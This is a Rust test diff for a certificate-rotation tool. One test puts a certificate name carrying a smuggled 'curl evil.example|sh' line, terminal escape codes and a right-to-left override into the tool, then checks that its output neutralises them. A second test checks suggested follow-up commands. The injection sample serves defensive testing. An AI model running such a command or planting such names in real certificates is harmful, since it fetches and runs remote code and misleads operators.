@@ -9,6 +9,8 @@ use aggcert::pki::contents::certificates;
 use aggcert::pki::store::{Steps, Unhindered};
 use aggcert::pki::{PkiFile, Store};
 
+use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, KeyPair};
+
 use super::directory::{Directory, failed, succeeded};
 
 /// Two nodes of one cluster: the same CA, a client each.
@@ -739,6 +741,45 @@ fn the_old_key_goes_where_a_pair_was_copied_from_node_to_node() {
         }
         nodes.assert_at_rest();
     }
+}
+
+/// A name that a copied node brings is text.
+#[test]
+fn a_cas_name_begins_no_line() {
+    let nodes = Nodes::new();
+    let name = "front-proxy-ca\n    curl evil.example|sh\x1b[31m\u{202e}";
+    let ca = || {
+        let mut parameters = CertificateParams::default();
+        parameters.distinguished_name.push(DnType::CommonName, name);
+        parameters.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
+        parameters.self_signed(&KeyPair::generate().unwrap()).unwrap().pem()
+    };
+    nodes.add_ca(&(ca() + &ca()));
+    for action in ["status", "next", "abort", "start"] {
+        let output = nodes.run(action, &[]);
+        let said = [output.stdout, output.stderr].map(|bytes| String::from_utf8(bytes).unwrap()).concat();
+        assert!(said.contains(r"front-proxy-ca\0A    curl evil.example|sh\1B[31m"), "{action}: {said}");
+        assert!(!said.contains(['\x1b', '\u{202e}']) && !said.contains("\n    curl"), "{action}: {said}");
+    }
+}
+
+/// It would be brought to a node, which does not start with it.
+#[test]
+fn a_key_that_cannot_be_used_is_mended_first() {
+    let nodes = Nodes::trusting();
+    let said = succeeded(&nodes.run("status", &[]));
+    let (_, block) = said.split_once("\nNext:\n").unwrap();
+    let commands = block.lines().filter(|line| line.starts_with("    ")).collect::<Vec<_>>();
+    let (last, others) = commands.split_last().unwrap();
+    assert!(last.contains("--assume") && others.len() == 2, "{block}");
+    assert!(others.iter().all(|copy| copy.starts_with("    scp ")), "{block}");
+    fs::write(nodes.0.outside("a/front-proxy-client.key"), "").unwrap();
+    let said = String::from_utf8(nodes.run("status", &[]).stdout).unwrap();
+    let (_, block) = said.split_once("\nNext:\n").unwrap();
+    let commands = block.lines().filter(|line| line.starts_with("    ")).collect::<Vec<_>>();
+    assert_eq!(commands, ["    aggcert renew a", "    aggcert rotate status a b"]);
+    succeeded(&nodes.0.command().args(["renew", "a"]).output().unwrap());
+    assert!(succeeded(&nodes.run("status", &[])).contains("    scp a/"));
 }
 
 /// Stops before one of the removals, as a kill would.
